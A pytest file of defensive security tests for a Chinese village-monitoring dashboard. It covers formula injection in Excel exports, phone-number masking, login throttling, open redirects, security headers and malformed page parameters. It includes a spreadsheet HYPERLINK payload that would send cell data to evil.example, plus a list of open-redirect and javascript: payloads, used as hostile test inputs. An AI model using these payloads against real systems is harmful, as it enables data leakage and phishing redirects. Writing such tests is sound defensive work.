"""Hostile input against the dashboard: formulas in exports, masked names, redirects, headers, pages, logins."""

from __future__ import annotations

import asyncio
import dataclasses
import io
import threading
from datetime import timedelta
from typing import Any
from urllib.parse import quote, unquote

import pytest
from aiohttp import ClientResponse, web
from aiohttp.test_utils import TestClient, TestServer
from openpyxl import load_workbook
from sqlmodel import col, func, select

from dashboards import auth
from dashboards.settings import DashboardSettings
from storage.models import AuditLog, Flag, Message, TicketEvent
from tests.dashboards.conftest import CSRF_RE, SECRET, Dash
from tests.dashboards.fakes import FakeRuleBench, fake_app
from tests.dashboards.seed import PASSWORD, T0

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


async def _add_flagged(dash: Dash, *, text: str, sender: str) -> None:
    async with dash.factory() as session, session.begin():
        message = Message(
            account="bot1",
            platform_id=f"hostile-{sender}",
            at=T0 + timedelta(minutes=40),
            group_name="石桥村监督服务群",
            sender_platform_id=sender,
            sender_name=sender,
            role="villager",
            text=text,
            county="舒城县",
            township="城关镇",
            village="石桥村",
        )
        session.add(message)
        await session.flush()
        session.add(
            Flag(
                message_id=message.id or 0,
                at=message.at,
                group_name=message.group_name,
                sender_name=sender,
                role="villager",
                county="舒城县",
                township="城关镇",
                village="石桥村",
                labels=["spam"],
                severity="low",
                rules=["spam.generic"],
                keywords=["点我"],
            )
        )


async def test_exports_write_user_text_as_text_never_formulas(dash: Dash) -> None:
    await _add_flagged(dash, text=FORMULA, sender="+1 说两句")
    await _add_flagged(dash, text="@SUM(1,2)", sender="-减号")
    await dash.login("admin")
    resp = await dash.client.get("/exports/flags.xlsx?since=2026-09-01&until=2026-09-30")
    assert resp.status == 200
    sheet = load_workbook(io.BytesIO(await resp.read())).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    dangerous = [c for c in cells if c.value and str(c.value)[0] in "=+-@"]
    assert {str(c.value) for c in dangerous} >= {FORMULA, "@SUM(1,2)", "+1 说两句", "-减号"}
    assert all(c.data_type == "s" for c in dangerous)
    assert all(c.data_type == "s" for c in cells)


async def test_numbers_in_sender_names_are_masked_on_pages_and_exports(dash: Dash) -> None:
    await _add_flagged(dash, text="今晚开桌,来的私聊", sender="老王13912345678")
    await dash.login("town_a")
    page = await (await dash.client.get("/digest")).text()
    assert "老王139****5678" in page and "13912345678" not in page
    resp = await dash.client.get("/exports/flags.xlsx?since=2026-09-01&until=2026-09-30")
    sheet = load_workbook(io.BytesIO(await resp.read())).active
    assert sheet is not None
    text = "\n".join(str(c) for row in sheet.iter_rows(values_only=True) for c in row)
    assert "老王139****5678" in text and "13912345678" not in text
    ticket = dash.world.tickets["water"]
    async with dash.factory() as session, session.begin():
        session.add(TicketEvent(ticket_id=ticket, at=T0, type="progress", actor="网格员13812345678", text="已上门"))
    page = await (await dash.client.get(f"/tickets/{ticket}")).text()
    assert "网格员138****5678" in page and "13812345678" not in page


# --- logins -------------------------------------------------------------------------------------------


async def _login_token(dash: Dash) -> str:
    page = await dash.client.get("/login")
    found = CSRF_RE.search(await page.text())
    assert found is not None
    return found.group(1)


async def _try(dash: Dash, token: str, username: str, password: str) -> int:
    resp = await dash.client.post(
        "/login", data={"_csrf": token, "username": username, "password": password}, allow_redirects=False
    )
    return resp.status


async def _audited(dash: Dash, action: str, username: str | None = None) -> int:
    async with dash.factory() as session:
        statement = select(func.count()).select_from(AuditLog).where(col(AuditLog.action) == action)
        if username is not None:
            statement = statement.where(col(AuditLog.username) == username)
        return int((await session.exec(statement)).one())


async def test_concurrent_wrong_passwords_never_get_more_checks_than_the_limit(dash: Dash) -> None:
    token = await _login_token(dash)
    statuses = await asyncio.gather(*(_try(dash, token, "town_a", f"guess-{n}") for n in range(40)))
    assert set(statuses) <= {401, 429} and 500 not in statuses
    assert await _audited(dash, "login_failed", "town_a") <= 5
    assert await _audited(dash, "login_attempt") == 0  # every attempt was settled
    assert await _audited(dash, "login_failed", "town_a") + await _audited(dash, "login_throttled", "town_a") == 40


async def test_a_growing_delay_not_a_ban_lets_the_owner_in(dash: Dash) -> None:
    token = await _login_token(dash)
    for n in range(5):
        assert await _try(dash, token, "town_a", f"guess-{n}") == 401
    resp = await dash.client.post("/login", data={"_csrf": token, "username": "town_a", "password": PASSWORD})
    assert resp.status == 429 and "秒后再试" in await resp.text()
    dash.clock.advance(seconds=1)
    assert await _try(dash, token, "town_a", "guess-5") == 401  # one more guess after the delay…
    dash.clock.advance(seconds=1)
    assert await _try(dash, token, "town_a", PASSWORD) == 429  # …and the next delay is twice as long
    dash.clock.advance(seconds=1)
    assert await _try(dash, token, "town_a", PASSWORD) == 302  # the owner gets in after it
    # another account from the same address is not held up by town_a's guesser
    assert await _try(dash, await _login_token(dash), "town_b", PASSWORD) == 302


async def test_one_address_trying_many_accounts_is_slowed_down(dash: Dash) -> None:
    settings = DashboardSettings(secret=SECRET, login_attempts_per_source=4)
    async with TestClient(TestServer(_app(dash, settings=settings))) as client:
        other = _like(dash, client)
        token = await _login_token(other)
        for n in range(4):
            assert await _try(other, token, f"nobody-{n}", "guess") == 401
        assert await _try(other, token, "town_a", PASSWORD) == 429
        dash.clock.advance(seconds=1)
        assert await _try(other, token, "town_a", PASSWORD) == 302


def _app(
    dash: Dash, *, settings: DashboardSettings | None = None, bench: FakeRuleBench | None = None
) -> web.Application:
    return fake_app(
        dash.factory,
        settings=settings or DashboardSettings(session_minutes=60, secret=SECRET),
        rule_bench=bench or FakeRuleBench(),
        clock=dash.clock,
    )


def _like(dash: Dash, client: TestClient) -> Dash:
    return dataclasses.replace(dash, client=client, csrf="")


async def test_a_hundred_concurrent_logins_give_no_server_error(dash: Dash) -> None:
    token = await _login_token(dash)
    users = ["admin", "county", "town_a", "town_b", "cadre_a"]
    attempts = [(users[n % 5], PASSWORD if n % 3 else "wrong") for n in range(100)]
    statuses = await asyncio.gather(*(_try(dash, token, user, password) for user, password in attempts))
    assert 500 not in statuses and set(statuses) <= {302, 401, 429}
    assert 302 in statuses
    assert await _audited(dash, "login_attempt") == 0


async def test_passwords_are_checked_off_the_event_loop(dash: Dash, monkeypatch: pytest.MonkeyPatch) -> None:
    threads: list[bool] = []
    real = auth.verify_password

    def recording(password_hash: str | None, password: str) -> bool:
        threads.append(threading.current_thread() is threading.main_thread())
        return real(password_hash, password)

    monkeypatch.setattr(auth, "verify_password", recording)
    token = await _login_token(dash)
    assert await _try(dash, token, "admin", PASSWORD) == 302
    assert await _try(dash, await _login_token(dash), "no-such-user", PASSWORD) == 401
    assert threads == [False, False]


# --- redirects, headers, pages ------------------------------------------------------------------------

HOSTILE_NEXT = [
    "/%09/evil.example/",
    "/\t/evil.example/",
    "//evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "/\n/evil.example",
    "/\u3000/evil.example",
    "http:/evil.example",
]


async def test_no_redirect_off_the_site_after_login(dash: Dash) -> None:
    for target in HOSTILE_NEXT:
        page = await dash.client.get("/login?next=" + quote(unquote(target), safe=""))
        assert 'name="next" value="/"' in await page.text(), target
        resp = await dash.client.post(
            "/login",
            data={
                "_csrf": await _login_token(dash),
                "username": "admin",
                "password": PASSWORD,
                "next": unquote(target),
            },
            allow_redirects=False,
        )
        assert resp.status == 302 and resp.headers["Location"] == "/", target


async def test_a_path_on_the_site_is_kept_after_login(dash: Dash) -> None:
    token = await _login_token(dash)
    resp = await dash.client.post(
        "/login",
        data={"_csrf": token, "username": "admin", "password": PASSWORD, "next": "/tickets?status=open"},
        allow_redirects=False,
    )
    assert resp.headers["Location"] == "/tickets?status=open"


SECURITY_HEADERS = ("Content-Security-Policy", "X-Content-Type-Options", "X-Frame-Options", "Referrer-Policy")


def _has_security_headers(resp: ClientResponse) -> None:
    for header in SECURITY_HEADERS:
        assert header in resp.headers, (resp.status, header)
    assert "frame-ancestors 'none'" in resp.headers["Content-Security-Policy"]
    assert resp.headers["X-Content-Type-Options"] == "nosniff"


async def test_security_headers_on_every_response_including_errors(dash: Dash) -> None:
    seen: set[int] = set()
    for method, path in [
        ("GET", "/login"),
        ("GET", "/tickets"),
        ("GET", "/no-such-page"),
        ("GET", "/static/style.css"),
        ("GET", "/static/missing.css"),
        ("PUT", "/login"),
        ("POST", "/logout"),
        ("GET", "/tickets/99999999999999999999"),
    ]:
        resp = await dash.client.request(method, path, allow_redirects=False)
        _has_security_headers(resp)
        seen.add(resp.status)
    assert {200, 302, 403, 404, 405} <= seen
    await dash.login("town_a")
    for path in ["/audit", "/tickets/99999999", "/flags/123456789"]:
        resp = await dash.client.get(path)
        _has_security_headers(resp)
        assert resp.status in (403, 404)


async def test_a_server_error_is_a_chinese_page_with_the_headers(dash: Dash) -> None:
    class BrokenBench(FakeRuleBench):
        def rules(self) -> list[dict[str, Any]]:
            raise RuntimeError("bug")

    async with TestClient(TestServer(_app(dash, bench=BrokenBench()))) as client:
        other = _like(dash, client)
        await other.login("county")
        resp = await client.get("/rules")
        assert resp.status == 500 and "服务器内部错误" in await resp.text()
        _has_security_headers(resp)


BAD_PAGES = [
    "page=99999999999999999999999999",
    "page=9223372036854775808",
    "page=-5",
    "page=abc",
    "page=" + "9" * 5000,
    "page=１２",
    "page=1e9",
    "page=2147483647",
]
ODD_QUERIES = [
    "/audit?before=99999999999999999999999",
    "/digest?cursor=9.99999999999999999999999",
    "/digest?cursor=99999.1",
    "/exports/tickets.xlsx?since=0001-01-01&until=9999-12-31",
    "/tickets?since=9999-12-31",
]


async def test_huge_or_bad_numbers_give_a_page_not_a_server_error(dash: Dash) -> None:
    await dash.login("admin")
    for query in BAD_PAGES:
        resp = await dash.client.get(f"/tickets?{query}")
        assert resp.status == 200, query
        assert "张湾组" in await resp.text()  # the last (here: only) page, not an empty one
    for path in ODD_QUERIES:
        resp = await dash.client.get(path)
        assert resp.status in (200, 400), path


async def test_the_rules_page_shows_a_failed_reload(dash: Dash) -> None:
    dash.bench.reload_error = "rules/labels/banquet.toml:12: 规则 banquet.x: weight(权重)必须是有限的数字"
    await dash.login("county")
    page = await (await dash.client.get("/rules")).text()
    assert "规则文件有错误，修改未生效" in page and "banquet.toml:12" in page
    dash.bench.reload_error = None
    assert "规则文件有错误" not in await (await dash.client.get("/rules")).text()


async def test_the_dashboard_secret_is_what_sessions_are_bound_to(dash: Dash) -> None:
    await dash.login("admin")
    cookie = dash.client.session.cookie_jar.filter_cookies(dash.client.make_url("/"))["vw_session"].value

    async def status_on(secret: bytes) -> int:
        settings = DashboardSettings(session_minutes=60, secret=secret)
        async with TestClient(TestServer(_app(dash, settings=settings))) as client:
            resp = await client.get("/tickets", cookies={"vw_session": cookie}, allow_redirects=False)
            return resp.status

    assert await status_on(SECRET) == 200  # a second dashboard with the same secret shares the session
    assert await status_on(b"another-secret-of-enough-length!!") == 302
